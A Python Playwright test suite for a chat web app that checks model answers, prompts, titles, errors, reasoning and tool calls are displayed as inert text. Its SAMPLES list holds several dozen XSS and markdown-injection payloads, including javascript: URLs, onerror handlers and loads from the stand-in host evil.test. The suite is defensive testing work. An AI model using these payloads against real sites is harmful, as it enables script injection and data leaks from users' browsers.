"""Nothing from a model, a provider or a person becomes more than text (A1 to A4, H25)."""

import json
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from conversations.models import ChatSession, Message
from providers.models import Configuration
from tests.browser.chat import END, Chat
from tests.servers.provider import (
    Provider,
    head,
    openai_answer,
    openai_chunk,
    openai_tool_call,
    send,
)

# Each would call `alert`, load something from elsewhere, or change the page outside its bubble.
SAMPLES = [
    "<script>alert(1)</script>",
    "<script src=http://evil.test/x.js></script>",
    "<img src=x onerror=alert(1)>",
    '<img srcset="http://evil.test/a.png 1x">',
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=http://evil.test/></object><embed src=http://evil.test/>",
    "<form action=http://evil.test/><input name=a><button>Send</button></form>",
    "<style>* { display: none } @import 'http://evil.test/x.css';</style>",
    "<link rel=stylesheet href=http://evil.test/x.css>",
    "<base href=http://evil.test/>",
    "<meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<body onload=alert(1)><video autoplay src=http://evil.test/v></video>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='javascript:alert(1)'>click</a>",
    "<div id=transcript class=sidebar style='position:fixed;inset:0'>over all</div>",
    "<template data-fragment=pending><b>mine</b></template>",
    "<chat-answer data-status=running data-events-url=http://evil.test/></chat-answer>",
    "<button hx-post=/preferences/ hx-trigger=load>x</button>",
    '<p data-hx-get="/" hx-trigger="load" hx-on:click="alert(1)">x</p>',
    "</div></article></main><h1>outside</h1>",
    "<!-- <script>alert(1)</script> --><![CDATA[<script>alert(1)</script>]]><?php ?>",
    "[link](javascript:alert(1)) [link](  JaVaScRiPt:alert(1)) [l](data:text/html,<script>1)",
    "[link](vbscript:alert(1)) <javascript:alert(1)> [x](//evil.test) [y](\\\\evil.test)",
    "![](http://evil.test/pixel.png) ![alt](//evil.test/p.png 'title')",
    "![ref]\n\n[ref]: http://evil.test/ref.png",
    '[a](http://evil.test/" onmouseover="alert(1))',
    "`<img src=x onerror=alert(1)>`",
    '```html" onclick="alert(1)\n<script>alert(1)</script>\n```',
    "```mermaid\ngraph LR; A[<img src=x onerror=alert(1)>]-->B\n```",
    "| <img src=x onerror=alert(1)> | <script>alert(1)</script> |\n|---|---|\n| <b>1 | 2 |",
    "$$\\href{javascript:alert(1)}{x}<script>alert(1)</script>$$",
    "- [x] <input onfocus=alert(1) autofocus>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
    "\u2028<script>alert(1)</script>\u202e",
]
ALL = "\n\n".join(SAMPLES)

# What of the page is not text of a message: the frame, in its order.
FRAME = """() => [...document.querySelectorAll("*")]
  .filter((e) => !e.closest("[data-blocks] > .block, .bubble, [data-tool-calls], [data-thinking],"
    + " [data-inspector], [data-console], [data-announcer], .failure-text"))
  .map((e) => e.tagName + "." + e.className).join("\\n")"""

FORBIDDEN = (
    "script, style, link, meta, base, iframe, object, embed, form, input, img, svg image, video,"
    " audio, template, chat-answer, math, [style], [id], [name], [src], [srcset], [hx-get],"
    " [hx-post], [data-hx-get], [data-hx-post]"
)

HANDLERS = """root => [...root.querySelectorAll("*")].flatMap((e) =>
  [...e.attributes].filter(({ name, value }) => /^(on|hx-|data-hx)/i.test(name)
    || (/^(href|src|action)$/i.test(name) && !/^(https?|mailto):/i.test(value))
  ).map(({ name, value }) => e.tagName + " " + name + "=" + value))"""


def is_inert(root: Any) -> None:
    """In what the text became there is nothing that runs, loads or reaches out."""
    assert root.locator(FORBIDDEN).evaluate_all("all => all.map((e) => e.outerHTML)") == []
    assert root.evaluate(HANDLERS) == []


@pytest.mark.contract("A1")
@pytest.mark.contract("A4")
@pytest.mark.contract("H25")
def test_html_in_an_answer_is_text_while_it_streams_and_after_a_reload(
    chat: Chat, openai: Configuration, provider: Provider
):
    provider.reply(*openai_answer("harmless"))
    chat.ask("first")
    chat.is_done()
    chat.reload()
    frame = chat.page.evaluate(FRAME)
    ChatSession.objects.get().messages.all().delete()
    chat.reload()
    # In pieces that cut every tag somewhere.
    pieces = [ALL[start : start + 7] for start in range(0, len(ALL), 7)]
    provider.reply(*openai_answer(*pieces))
    chat.ask("first")
    chat.is_done()
    expect(chat.send_button).to_be_visible()
    blocks = chat.blocks()
    is_inert(chat.text)
    for link in chat.text.get_by_role("link").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")
    shown = chat.text.inner_text()
    for sample in SAMPLES[:9]:
        assert sample in shown
    chat.reload()
    assert chat.blocks() == blocks
    is_inert(chat.text)
    assert chat.page.evaluate(FRAME) == frame


@pytest.mark.contract("A3")
@pytest.mark.contract("H25")
def test_html_in_a_prompt_a_title_and_an_error_is_text(
    chat: Chat, openai: Configuration, provider: Provider
):
    page = chat.page
    chat.open_monitor()
    error = {"error": {"message": "<img src=x onerror=alert(1)><b>bold</b> " + SAMPLES[0]}}
    provider.reply(head(400, "application/json"), send(json.dumps(error)))
    openai.name = "<i>Double</i><script>alert(1)</script>"
    openai.system_instructions = ALL
    openai.save()
    chat.reload()
    chat.ask(ALL)
    chat.is_done("error")
    expect(chat.inspector).to_contain_text("Full request body")
    page.locator("[data-title-edit]").click()
    title = page.get_by_role("textbox", name="Title of this chat")
    title.fill("</title><script>alert(1)</script><img src=x onerror=alert(1)>")
    title.press("Enter")
    expect(chat.chats.get_by_role("link")).to_contain_text("</title><script>")
    for _ in range(2):
        for root in (
            chat.questions.locator("[data-text]"),
            chat.failure.locator(".failure-text"),
            chat.chats.locator(".chat-name"),
            page.locator("[data-title-name]"),
            page.locator("[data-picker-name]"),
            page.locator("[data-console]"),
        ):
            for one in root.all():
                is_inert(one)
        assert chat.inspector.locator("script, img, iframe, b, i, style").count() == 0
        expect(chat.questions.first).to_contain_text("<script>alert(1)</script>")
        chat.reload()
        chat.answer.get_by_role("link", name="Details").click()
        expect(chat.inspector).to_contain_text("Full request body")
    page.goto(page.locator("a.facts-details").get_attribute("href") or "")
    expect(page.locator('[data-section="body"]')).to_contain_text("<script>alert(1)</script>")
    assert page.locator("main").locator("script, img, iframe, style, form").count() == 0


@pytest.mark.contract("A1")
@pytest.mark.contract("A3")
def test_html_in_reasoning_and_tool_calls_is_text(
    chat: Chat, openai: Configuration, provider: Provider
):
    provider.reply(
        head(),
        send(openai_chunk(reasoning=ALL)),
        *openai_tool_call("<img src=x onerror=alert(1)>", json.dumps({"x": ALL})),
        send(openai_chunk(finish="tool_calls")),
        *END[1:],
    )
    chat.open_monitor()
    chat.ask("call a tool")
    chat.is_done()
    for _ in range(2):
        expect(chat.answer.locator("[data-tool-name]")).to_have_text("<img src=x onerror=alert(1)>")
        assert SAMPLES[0] in (chat.answer.locator("[data-thinking-text]").text_content() or "")
        for part in ("[data-thinking-text]", "[data-tool-name]"):
            assert chat.answer.locator(part).locator("*").count() == 0
        arguments = chat.answer.locator("[data-tool-arguments]")
        assert SAMPLES[0] in (arguments.text_content() or "").replace('\\"', '"')
        assert arguments.locator("*:not(pre, code, span)").count() == 0  # highlighting, no more
        chat.reload()


@pytest.mark.contract("A4")
def test_an_image_from_elsewhere_is_a_link_that_names_its_host(
    chat: Chat, openai: Configuration, provider: Provider
):
    provider.reply(*openai_answer("Look: ![a cat](http://evil.test/cat.png)"))
    chat.ask("a cat")
    chat.is_done()
    expect(chat.text.locator("img")).to_have_count(0)
    link = chat.text.get_by_role("link")
    expect(link).to_have_attribute("href", "http://evil.test/cat.png")
    expect(chat.text).to_contain_text("evil.test")
    expect(chat.text).to_contain_text("a cat")


@pytest.mark.contract("A1")
@pytest.mark.contract("A5")
def test_admin_pages_show_stored_html_as_text(
    page: Page, openai: Configuration, provider: Provider, ada_user: Any
):
    ada_user.is_staff = ada_user.is_superuser = True
    ada_user.save()
    chat = Chat(page).open("/")
    provider.reply(*openai_answer(ALL))
    chat.ask(ALL)
    chat.is_done()
    for path in (
        "/admin/conversations/chatsession/",
        f"/admin/conversations/chatsession/{chat.id}/change/",
        "/admin/conversations/message/",
        f"/admin/conversations/message/{Message.objects.latest('pk').pk}/change/",
        "/admin/conversations/run/",
        "/admin/conversations/usagelog/",
    ):
        answer = page.goto(path)
        assert answer, path
        assert answer.status == 200, path
        expect(page.locator("#content")).to_be_visible()
        assert page.locator("#content").locator("iframe, object, embed, [onerror]").count() == 0
